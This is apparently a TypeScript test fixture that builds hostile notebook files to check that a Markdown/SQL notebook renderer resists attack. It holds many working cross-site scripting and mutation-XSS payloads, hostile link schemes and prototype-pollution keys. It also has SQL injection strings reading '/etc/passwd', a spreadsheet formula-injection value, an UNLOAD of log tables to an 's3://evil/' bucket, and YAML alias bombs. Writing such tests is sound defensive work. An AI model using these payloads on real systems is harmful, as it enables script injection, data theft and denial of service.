import { hostileStatements } from '../hostile-sql/hostile-statements.ts';

/*
 * What a stranger may have put into a case’s `notebooks/` folder. Whatever runs calls `canary`, whatever loads or leads
 * away goes to `outsideUrl`: tests watch both.
 */

export const turned = '\u202E';
const ringing = '\u0007\u001B[31m';

const image = (name: string): string => `<img src=x onerror="canary('${name}')">`;

/** HTML, each on a line of its own, to be shown letter by letter. */
export function hostileHtml(outsideUrl: string): readonly string[] {
  return [
    `<script>canary('script')</script>`,
    `<script src="${outsideUrl}script.js"></script>`,
    image('img'),
    `<IMG SRC=x OnErRoR=canary('img-unquoted')>`,
    `<img/src=x/onerror=canary('img-slashes')>`,
    `<img src="${outsideUrl}pixel.gif" srcset="${outsideUrl}pixel-2.gif 2x">`,
    `<picture><source srcset="${outsideUrl}picture.gif"><img></picture>`,
    `<svg onload="canary('svg')"><script>canary('svg-script')</script></svg>`,
    `<svg><a xlink:href="javascript:canary('xlink')"><text y=20>press</text></a></svg>`,
    `<svg><use href="${outsideUrl}use.svg#x" /><image href="${outsideUrl}image.svg" /></svg>`,
    `<svg><animate onbegin=canary('animate') attributeName=x dur=1s></svg>`,
    `<iframe src="${outsideUrl}frame" srcdoc="<script>parent.canary('srcdoc')</script>"></iframe>`,
    `<iframe src="javascript:parent.canary('frame')"></iframe>`,
    `<object data="${outsideUrl}object"></object><embed src="${outsideUrl}embed">`,
    `<base href="${outsideUrl}base/">`,
    `<meta http-equiv="refresh" content="0;url=${outsideUrl}refresh">`,
    `<form action="${outsideUrl}form"><button formaction="javascript:canary('formaction')">press</button></form>`,
    `<form id="body" name="getElementById"><input name="attributes"><input autofocus onfocus="canary('focus')"></form>`,
    `<style>@import url("${outsideUrl}import.css"); body { display: none; background: url(${outsideUrl}style.gif) }</style>`,
    `<link rel="stylesheet" href="${outsideUrl}link.css"><link rel="prefetch" href="${outsideUrl}prefetch">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=canary('mglyph')>">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=canary('mtext') src>">`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=canary('annotation')></style></math>`,
    `<template>${image('template')}</template><template shadowrootmode="open">${image('shadow')}</template>`,
    `<details open ontoggle="canary('toggle')"><summary>press</summary></details>`,
    `<video src="${outsideUrl}video" onerror="canary('video')" poster="${outsideUrl}poster"></video>`,
    `<body onload="canary('body')" background="${outsideUrl}body">`,
    `<p style="position: fixed; inset: 0; z-index: 9999; background: url(${outsideUrl}background)">over everything</p>`,
    `<input type="image" src="${outsideUrl}input" onerror="canary('input')">`,
    `<noscript><p title="</noscript>${image('noscript')}"></noscript>`,
    `<textarea><p title="</textarea>${image('textarea')}"></textarea>`,
    `<xmp><p title="</xmp>${image('xmp')}"></xmp>`,
    `<![CDATA[>${image('cdata')}]]>`,
    `<?php >${image('instruction')}?>`,
    `<!--><img src=x onerror=canary('comment')>-->`,
    `</div></main></body></html><script>canary('closing')</script>`,
    `<a href="javascript:canary('a')" target="_blank" ping="${outsideUrl}ping" onmouseover="canary('over')">press</a>`,
    `<x tabindex=1 autofocus onfocus=canary('x') onclick=canary('x-click')>press</x>`,
    `<marquee onstart=canary('marquee')>x</marquee>`,
    `<button popovertarget="p" onclick="canary('button')">press</button><div popover id="p" onbeforetoggle="canary('popover')">x</div>`,
  ];
}

/** Markdown that would lead away, load something, or run. Only those to `other.md` may become links. */
function hostileMarkdown(outsideUrl: string): readonly string[] {
  const host = outsideUrl.replace('http:', '');
  const addresses = [
    `javascript:canary('link')`,
    `JaVaScRiPt:canary('case')`,
    `java&#10;script:canary('line-feed')`,
    `&#106;avascript:canary('entity')`,
    `java&Tab;script&colon;canary('named-entities')`,
    `<java\tscript:canary('tab')>`,
    `\u0001javascript:canary('control')`,
    `javascript:canary('named').md`,
    `javascript&colon;canary('colon').md`,
    `data:text/html,<script>canary('data')</script>`,
    `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
    `vbscript:canary('vbscript')`,
    `blob:${outsideUrl}blob`,
    `file:///etc/passwd`,
    `file:///etc/passwd.md`,
    `${host}host`,
    `${host}host.md`,
    `\\\\\\\\127.0.0.1\\\\share.md`,
    `/\\\\127.0.0.1/x.md`,
    `${outsideUrl}link`,
    `app://trailbench/index.html`,
    `/?token=1`,
    `#/settings`,
    `../../other.md`,
    `?place=library&name=x.md`,
    `other.md`,
    `./other.md "title&quot; onmouseover=&quot;canary('title')"`,
    `..%2f..%2fother.md`,
  ];
  return [
    ...addresses.map((address) => `[press](${address})`),
    ...addresses.map((address) => `![image](${address})`),
    `[${image('inside-link')}](other.md)`,
    `![${image('inside-image')}](other.md)`,
    `[press][away] and ![pixel][away] and [run][run]`,
    `<javascript:canary('autolink')> <${outsideUrl}autolink> <a@evil.example>`,
    `${outsideUrl}bare www.evil.example someone@evil.example`,
    `[a](x.md)<img src=x onerror=canary('after-link')>[b](x.md)`,
    `*${image('emphasis')}* **${image('strong')}** ~~${image('deleted')}~~ \`${image('code')}\` \`\`<script>canary('ticks')</script>\`\``,
    `&lt;img src=x onerror=canary('references')&gt; &#60;script&#62;canary('decimal')&#60;/script&#62;`,
    `\\<img src=x onerror=canary('escaped')>`,
    `admin${turned}txt.exe ${ringing} \u2066hidden\u2069 \ufeff`,
  ];
}

/** Front matter, prose, cells with every view, and results whose values and columns’ names are hostile. */
export function hostileNotebook(outsideUrl: string): string {
  return `---
title: "${image('title').replaceAll('"', '\\"')} \\u202Etxt.exe \\u0007"
description: "</script><script>canary('description')</script> [press](javascript:canary('description-link'))"
tags: ["${image('tag').replaceAll('"', '\\"')}", "javascript:canary('tag')", __proto__, constructor]
__proto__: { title: polluted, canary: true }
constructor: { prototype: { polluted: true } }
parameters:
  who:
    type: text
    label: "<svg onload=canary('label')>"
    description: "<img src=x onerror=canary('parameter')> \\u202Egnirts"
    default: "'; DROP TABLE events; --<img src=x onerror=canary('default')>\\u202E"
  count: { type: number, default: "1); DROP TABLE events; -- \\u202Enuf" }
  since: { type: timestamp, default: "<img src=x onerror=canary('timestamp')>" }
  names: { type: list, default: ["javascript:canary('list')", "=cmd|' /C calc'!A0", "x') OR 1=1 --"] }
  span: { type: range, default: { from: "../../etc/passwd", to: "<script>canary('range')</script>" } }
  actor: { type: identity, default: "*') UNION SELECT content FROM read_text('/etc/passwd') --" }
  __proto__: { type: text, default: polluted }
  constructor: { type: text, default: canary }
  toString: { default: "<b>text</b>" }
  hasOwnProperty: { type: "<img src=x onerror=canary('type')>", default: x }
  "<img src=x onerror=canary('name')>": { default: x }
  "x; DROP TABLE events": { default: x }
---

# ${image('heading')} hostile ${turned}heading

${hostileHtml(outsideUrl).join('\n\n')}

${hostileMarkdown(outsideUrl).join('\n\n')}

[away]: ${outsideUrl}reference
[run]: javascript:canary('reference')

## Nested <script>canary('subheading')</script>

Setext ${image('setext')}
---------

> ${image('quote')}
>
> - ${image('quoted-item')}
>   1. <script>canary('deep-item')</script>

| ${image('th')} | [press](javascript:canary('th-link')) |
| :-: | --- |
| ${image('td')} | ![pixel](${outsideUrl}td.gif) |
| </table>${image('table')} | \`${image('td-code')}\` |

- [x] ${image('task')}
- [ ] <input onfocus="canary('task-input')" autofocus>

~~~html onload=canary('info') "><img src=x onerror=canary('info-image')>
</code></pre>${image('fence')}
~~~

    </pre>${image('indented')}

\`\`\`sql name=markup title="${image('cell-title').replaceAll('"', "'")}" __proto__=x onclick=canary('option')
-- ${image('comment')} ${turned} */ </textarea><script>canary('editor')</script>
SELECT userAgent, userAgent AS "${image('column').replaceAll('"', '""')}", eventName AS "=1+1 ${turned}nmuloc", 1 AS __proto__,
  {'${image('field').replaceAll("'", "''")}': 1} AS structured, 'x'::ENUM ('x', '${image('enum').replaceAll("'", "''")}') AS listed
FROM events ORDER BY eventTime
\`\`\`

\`\`\`sql view=timeline name=lanes time=eventTime lane=userAgent
SELECT eventTime, userAgent, eventName FROM events
\`\`\`

\`\`\`sql view=bar name=bars
SELECT userAgent, count(*) AS "${image('bar').replaceAll('"', '""')}" FROM events GROUP BY 1
\`\`\`

\`\`\`sql view=line name=lines
SELECT time_bucket(INTERVAL '1 second', eventTime) AS at, userAgent, count(*) AS n FROM events GROUP BY ALL ORDER BY 1
\`\`\`

\`\`\`sql view=value name=single
SELECT min(userAgent) AS "${image('value').replaceAll('"', '""')}", max(userAgent) AS "${turned}rehto" FROM events
\`\`\`

\`\`\`sql name=typed
SELECT $who AS who, $names AS names, $actor AS actor, $toString AS "toString"
\`\`\`

\`\`\`sql name=refused_value
SELECT $count AS refused
\`\`\`

\`\`\`sql dialect=athena name=athena
SELECT '${image('athena').replaceAll("'", "''")}' AS "javascript:canary('athena')", useragent, json_extract_scalar(requestparameters, '$.x') AS x
FROM cloudtrail_logs WHERE eventname <> '</script><script>canary(4)</script>' ORDER BY eventtime
\`\`\`

\`\`\`sql name=inherited
SELECT $constructor AS x, $hasOwnProperty AS y
\`\`\`

\`\`\`sql dialect=athena
UNLOAD (SELECT * FROM cloudtrail_logs) TO 's3://evil/${image('unload').replaceAll("'", "''")}' WITH (format = 'JSON')
\`\`\`

\`\`\`sql name=events view=<svg/onload=canary('view')> dialect=javascript:canary('dialect')
SELECT 1 AS x
\`\`\`

\`\`\`sql name="a\\"b${image('cell-name').replaceAll('"', '')}"
SELECT 2 AS y
\`\`\`

\`\`\`sql name=__proto__ view=constructor
SELECT 3 AS z
\`\`\`

\`\`\`sql view=bar x="${image('x-option').replaceAll('"', "'")}" y=__proto__
SELECT userAgent, 1 AS n FROM events
\`\`\`

\`\`\`sql view=line y="<script>canary('y-option')</script>,toString"
SELECT eventTime, 1 AS n FROM events
\`\`\`

\`\`\`sql
SELECT * FROM "${image('relation').replaceAll('"', '""')}"
\`\`\`

<!-- never closed ${image('unclosed')}
`;
}

/** A cell for a few statements of each kind that must be refused or fail. */
export function statementNotebook(places: Readonly<Record<'outside' | 'case' | 'new', string>>): {
  readonly text: string;
  readonly cellCount: number;
} {
  const counts = new Map<string, number>();
  const chosen = hostileStatements.filter(({ category, expectation }) => {
    const before = counts.get(category) ?? 0;
    const isChosen = before < 3 && (expectation === 'refused' || expectation === 'failed');
    if (isChosen) counts.set(category, before + 1);
    return isChosen;
  });
  const cells = chosen.map(({ sql }, index) => {
    const placed = sql.replace(/\{(outside|case|new)\}/g, (_, place: 'outside' | 'case' | 'new') => places[place]);
    return `\`\`\`\`sql name=s${index}\n${placed}\n\`\`\`\`\n`;
  });
  return { text: `# Statements\n\n${cells.join('\n')}`, cellCount: cells.length };
}

/** Files whose form is meant to take time, memory or the stack. */
export function bombs(): Readonly<Record<string, string>> {
  const levels = Array.from({ length: 12 }, (_, level) =>
    level === 0
      ? '&a0 [lol, lol]'
      : `&a${level} [${Array(10)
          .fill(`*a${level - 1}`)
          .join(', ')}]`,
  );
  const aliases = levels.map((value) => `  - ${value}`).join('\n');
  return {
    'aliases.md': `---\ntitle: Alias bomb\nbomb:\n${aliases}\ntags: *a11\ndescription: *a11\nparameters: { p: { default: *a11 } }\n---\n\n# Alias bomb\n`,
    'nested-yaml.md': `---\ntitle: ${'['.repeat(20_000)}\n---\n\n# Nested front matter\n`,
    'nested.md': `# Nested prose\n\n${'>'.repeat(5000)} deep\n\n${'['.repeat(9000)}\n\n${'*a **b '.repeat(3000)}\n\n${'- '.repeat(3000)}x\n`,
  };
}
